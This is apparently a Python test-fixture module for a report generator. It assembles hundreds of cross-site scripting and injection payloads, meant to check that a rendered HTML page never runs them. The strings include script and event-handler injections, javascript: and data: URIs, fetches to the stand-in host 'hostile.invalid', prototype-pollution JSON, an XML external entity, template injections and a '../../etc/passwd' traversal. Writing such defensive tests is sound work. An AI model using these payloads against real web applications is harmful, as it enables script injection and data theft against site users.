"""Texts that try to be more than text inside a page: 500 and more, shared by the tests of the file and of the browser.

Each tries to set ``window.hostileRan`` or to fetch from ``hostile.invalid``. Ways out of where a text may stand
(element, attribute, script, style, comment, JSON, template) are combined with what runs or fetches once it is out.
"""

from __future__ import annotations

from typing import Final

from tests.report.nasty import NASTY

MARK: Final = "hostileRan"
"""The property of ``window`` that no payload may set."""
HOST: Final = "hostile.invalid"
"""The host that no payload may reach."""
_RUN: Final = f"window.{MARK}=1"
_URL: Final = f"http://{HOST}/x"

WAYS_OUT: Final = (
    "", "</script>", '"></script>', "'></script>", '">', "'>", '"}]}</script>', "</SCRIPT\n>", "-->", "]]>", "*/",
    "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "</svg>", "</pre></td></table>", "<!--",
    "<!--<script>", "\u2028", "\\", "\\u003c/script\\u003e", "&lt;/script&gt;", "%3C/script%3E", "\x00</script>",
    "\ud800</script>",
)  # fmt: skip
ACTIONS: Final = (
    f"<script>{_RUN}</script>",
    f"<script src={_URL}></script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="{_URL}">',
    f"<svg onload={_RUN}></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<a href="javascript:{_RUN}">link</a>',
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f'<iframe src="javascript:parent.{MARK}=1"></iframe>',
    f"<style>@import url({_URL}); * {{ background: url({_URL}) }}</style>",
    f'<div style="background:url({_URL})">x</div>',
    f'<link rel="stylesheet" href="{_URL}">',
    f'<meta http-equiv="refresh" content="0;url={_URL}">',
    f'<base href="{_URL}">',
    f'<object data="{_URL}"></object><embed src="{_URL}">',
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f'<form action="{_URL}"><button autofocus formaction="javascript:{_RUN}">x</button></form>',
    f"<video><source onerror={_RUN}></video>",
    f'<math><mi xlink:href="javascript:{_RUN}">x</mi></math>',
    f'<template><img src=x onerror="{_RUN}"></template>',
)
ALONE: Final = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"\x01javascript:{_RUN}", f"java\tscript:{_RUN}",
    f"data:text/html,<script>opener.{MARK}=1</script>", "data:text/html;base64,PHNjcmlwdD4=", f"vbscript:{_RUN}",
    f"//{HOST}/x", _URL, f"blob:{_URL}", f"url({_URL})", f"expression({_RUN})", f"}}body{{background:url({_URL})}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}", f"${{{_RUN}}}", f"`;{_RUN};`", f"<%={_RUN}%>", f"#{{{_RUN}}}",
    f"';{_RUN};'", f'";{_RUN};"', f"\\';{_RUN};//", f"\");{_RUN};(\"", f"{_RUN}", f"*/{_RUN}/*", f"//\u2028{_RUN}",
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "then",
    f'{{"__proto__":{{"{MARK}":1}}}}', f'{{"constructor":{{"prototype":{{"{MARK}":1}}}}}}', '{"toJSON":1}',
    f'"]}}</script><script>{_RUN}</script>', '"', "\\", "\\\"", "\\u0022", "\\", "}", "]", ",", "null", "NaN", "1e999",
    f'x" onmouseover="{_RUN}', f"x' onmouseover='{_RUN}", f"x onmouseover={_RUN} ", f"x/onload={_RUN}/",
    f"<x onclick={_RUN}>", f"<x/onpointerenter={_RUN}>", f"<IMG SRC=`javascript:{_RUN}`>", f"<<script>{_RUN}//<</script>",
    f'<img src="x` `<script>{_RUN}</script>"` `>', f"<script\x0c>{_RUN}</script>", f"<scr\x00ipt>{_RUN}</script>",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-", f"\u00bcscript\u00be{_RUN}\u00bc/script\u00be",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e", f"<!DOCTYPE x [<!ENTITY e SYSTEM '{_URL}'>]>&e;",
    f"<?xml-stylesheet href='{_URL}'?>", f"<![CDATA[<script>{_RUN}</script>]]>",
    "\u202e\u2066reversed\u2069", "\u200b\u200d\ufeff\u2060", "\x1b[31m\x1b]8;;http://hostile.invalid\x07x\x1b]8;;\x07",
    "\ud800", "\udfff\ud800", "\ufffe\uffff", "\U0010ffff", "a\u0301" * 50, "\u0e49" * 200, "\x00", "\r", "\x85",
    "#/run/0", "?x=1#/plots", "overview", "detail-0", "plots", "app", "__html", "dangerouslySetInnerHTML", "innerHTML",
    '{"__html":"<img src=x onerror=window.hostileRan=1>"}', '{"type":"script","props":{"src":"x"},"ref":null}',
    "=1+1", "-- ", "%s%n%x", "../../etc/passwd", "A" * 900, "<" * 700, "&" * 700, "\\" * 700, "\n" * 300,
)  # fmt: skip
PAYLOADS: Final = tuple(dict.fromkeys([*NASTY, *ALONE, *(out + action for out in WAYS_OUT for action in ACTIONS)]))
"""All of them, each once."""
